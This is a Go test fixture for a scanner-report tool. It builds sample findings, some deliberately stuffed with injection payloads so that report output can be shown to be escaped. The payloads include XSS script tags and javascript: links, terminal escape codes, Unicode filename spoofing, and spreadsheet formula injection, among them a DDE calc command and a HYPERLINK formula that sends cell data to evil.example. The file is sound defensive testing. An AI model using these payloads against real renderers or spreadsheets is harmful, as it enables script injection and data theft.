package report_test

import (
	"iter"
	"testing"
	"time"

	v1 "kbadvisor/api/v1"

	"kbadvisor/api/report"
)

// hostile is text that would do harm if some writer let it through.
const hostile = `<script>document.title="owned"</script><img src=x onerror=alert(1)>` + "\x1b[2J\x1b]0;owned\x07" +
	`</template></textarea></style><!-- --> | [x](javascript:alert(1)) ` + "`code`" + ` **bold** ${1+1} {{7*7}} @somebody #12 https://evil.example/ ` +
	"\u202egnp.exe\u202c \u200b\u0085\u2028end"

// ssl is a finding that an article explains, on some host.
func ssl(host, address string) v1.Finding {
	text := "\nThe remote service accepts connections encrypted using SSL 2.0.\nSee http://support.microsoft.com/kb/187498 for more.\n"
	at := len("\nThe remote service accepts connections encrypted using SSL 2.0.\nSee http://support.microsoft.com/kb/")
	return v1.Finding{
		Report: "office.nessus", Format: "nessus-xml", Scanner: "Nessus 6.1", Plugin: v1.FindingPlugin{ID: "20007", Name: "SSL Version 2 (v2) Protocol Detection", Family: "Service detection"},
		Severity: "2", Host: host, Address: address, Names: []string{host}, Addresses: []string{address}, Port: 443, Protocol: "tcp", Service: "www",
		Product: "Microsoft IIS", Version: "5.0", CPE: []string{"cpe:/a:microsoft:iis:5.0"}, System: "Windows 2000",
		Outputs: []v1.FindingOutput{{ID: "plugin_output", Text: text}}, Description: "The remote service encrypts traffic using a protocol with known weaknesses.\n\nSSL 2.0 has flaws.",
		Solution:   "Disable SSL 2.0 and use TLS.",
		References: []v1.FindingCitation{{Kind: "cve", Value: "CVE-2005-2969", Where: "cve"}, {Kind: "cwe", Value: "CWE-327", Where: "xref"}, {Kind: "url", Value: "http://support.microsoft.com/kb/187498", Where: "see_also"}},
		Verdict:    "explained", CitedAbsent: []string{},
		Results: []v1.FindingResult{{
			ID: "Q187498", Title: "How to Disable PCT 1.0, SSL 2.0, or SSL 3.0 on IIS", Confidence: 0.97, Disposition: "informational",
			Evidence: []v1.FindingEvidence{
				{Kind: "identifier", Weight: 0.8, Observed: v1.FindingQuote{Field: "outputs[0].text", Start: at, End: at + 6, Text: "187498"}, Article: v1.Quote{Start: 9, End: 16, Text: "Q187498"}, Before: "DOCUMENT:", After: "  04-MAY-2001  [iis]"},
				{Kind: "text", Weight: 0.2, Observed: v1.FindingQuote{Text: "SSL Version 2\nconnections"}, Article: v1.Quote{Start: 100, End: 107, Text: "SSL 2.0"}},
			},
		}},
	}
}

// findings are a small set of normal and hostile ones, of two reports.
func findings() []v1.Finding {
	tie := ssl("ws2.example", "192.0.2.2")
	tie.Verdict, tie.Severity, tie.Plugin, tie.Port = "ambiguous", "High", v1.FindingPlugin{ID: "10079", Name: "Anonymous FTP Enabled"}, 21
	tie.Results = []v1.FindingResult{
		{ID: "Q100001", Title: "FTP: 530 User Cannot Log In", Confidence: 0.45, Disposition: "by_design", Tied: true, Evidence: []v1.FindingEvidence{{Kind: "message", Weight: 1, Observed: v1.FindingQuote{Field: "description", Start: 4, End: 18, Text: "remote service"}, Article: v1.Quote{Start: 1, End: 3, Text: "530 User"}}}},
		{ID: "Q100002", Title: "FTP: 530 Again", Confidence: 0.45, Tied: true, Evidence: []v1.FindingEvidence{}},
		{ID: "Q100003", Title: "Third", Confidence: 0.1, Evidence: []v1.FindingEvidence{}},
	}
	gone := v1.Finding{
		Report: "office.nessus", Format: "nessus-xml", Plugin: v1.FindingPlugin{ID: "26928", Name: "SSL Weak Cipher Suites Supported"}, Severity: "Medium", Host: "192.0.2.3", Address: "192.0.2.3", Addresses: []string{"192.0.2.3"}, Port: 443, Protocol: "tcp",
		Verdict: "cited_absent", CitedAbsent: []string{"Q245030", "Q216482"}, Outputs: []v1.FindingOutput{}, Results: []v1.FindingResult{}, References: []v1.FindingCitation{},
	}
	bad := v1.Finding{
		Report: "lab/" + hostile, Format: "nmap-xml", Scanner: hostile, Plugin: v1.FindingPlugin{ID: hostile, Name: hostile, Family: hostile}, Severity: hostile, Status: hostile,
		Host: hostile, Address: "2001:db8::1", Names: []string{hostile}, Addresses: []string{"2001:db8::1"}, Port: 53, Protocol: "udp", Service: hostile, Product: hostile, Version: hostile, System: hostile,
		Location: `=HYPERLINK("http://evil.example/?"&A1,"x")`, CPE: []string{hostile}, Outputs: []v1.FindingOutput{{ID: hostile, Text: hostile + "\r\n" + hostile}, {ID: "x", Text: ""}},
		Description: " \"=cmd|' /C calc'!A0", Solution: "-2+3;=SUM(A1)\n@SUM(1)", Warnings: []string{hostile},
		References: []v1.FindingCitation{{Kind: "url", Value: "javascript:alert(1)", Where: hostile}, {Kind: "url", Value: "https://evil.example/\"><script>alert(1)</script>", Where: "x"}, {Kind: hostile, Value: hostile}},
		Verdict:    "explained", CitedAbsent: []string{"Q1<b>"},
		Results: []v1.FindingResult{{ID: "house-" + "article", Title: hostile, Confidence: 0.62, Disposition: "fixed_in", Evidence: []v1.FindingEvidence{
			{Kind: "message", Observed: v1.FindingQuote{Field: "plugin.name", Start: 0, End: 8, Text: "<script>"}, Article: v1.Quote{Start: 0, End: 4, Text: "</td>" + hostile}, Before: "a  ", After: "\r\nb"},
			{Kind: "reply_code", Observed: v1.FindingQuote{Field: "outputs[9].text", Start: 5, End: 900, Text: hostile}},
		}}},
	}
	bare := v1.Finding{Report: "lab/x", Format: "naabu-json", Host: "ws3.example", Names: []string{"ws3.example"}, Address: "192.0.2.9", Addresses: []string{"192.0.2.9"}, Port: 21, Protocol: "tcp", Verdict: "unexplained", Reason: "no_candidate"}
	vague := v1.Finding{Report: "lab/x", Format: "sarif", Plugin: v1.FindingPlugin{ID: "go/sql"}, Location: `src\a b.go:12`, Severity: "note", Verdict: "unexplained", Reason: "below_threshold", Outputs: []v1.FindingOutput{{ID: "message", Text: "+cmd"}}}
	well := v1.Finding{Report: "lab/x", Format: "zgrab-jsonl", Host: "ws3.example", Names: []string{"ws3.example"}, Port: 21, Protocol: "tcp", Service: "ftp", Verdict: "unexplained", Reason: "healthy", Outputs: []v1.FindingOutput{{ID: "banner", Text: "220 ready"}}}
	return []v1.Finding{ssl("ws1.example", "192.0.2.1"), tie, gone, ssl("ws2.example", "192.0.2.2"), bad, bare, vague, well}
}

// made is when the documents of these tests were made.
func made() time.Time { return time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC) }

// document returns findings with their summary, as a spool gives them.
func document(t testing.TB, all []v1.Finding) report.Document {
	t.Helper()
	s, err := report.NewSpool(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	var c report.Counter
	c.Begin("office.nessus", "nessus-xml")
	for i, f := range all {
		if i == 4 {
			c.Begin(all[i].Report, all[i].Format)
		}
		c.Add(f)
		if err := s.Add(f); err != nil {
			t.Fatal(err)
		}
	}
	summary := c.Summary()
	for i, a := range summary.Articles {
		if a.ID == "Q187498" {
			summary.Articles[i].Cause = "The protocols are on by default.\nThey are old."
			summary.Articles[i].Do = "Set Enabled to 0 below the key of the protocol, then start the computer anew."
		}
		if a.ID == "house-article" {
			summary.Articles[i].Cause, summary.Articles[i].Do = hostile, hostile
		}
	}
	if len(summary.Reports) > 1 {
		summary.Reports[1].Error = "line 7, in nmaprun/host: the report ends early"
	}
	summary.Fingerprint = "0123456789abcdef"
	return s.Document(summary)
}

// sequence yields findings, then an error unless it is nil.
func sequence(all []v1.Finding, err error) iter.Seq2[v1.Finding, error] {
	return func(yield func(v1.Finding, error) bool) {
		for _, f := range all {
			if !yield(f, nil) {
				return
			}
		}
		if err != nil {
			yield(v1.Finding{}, err)
		}
	}
}
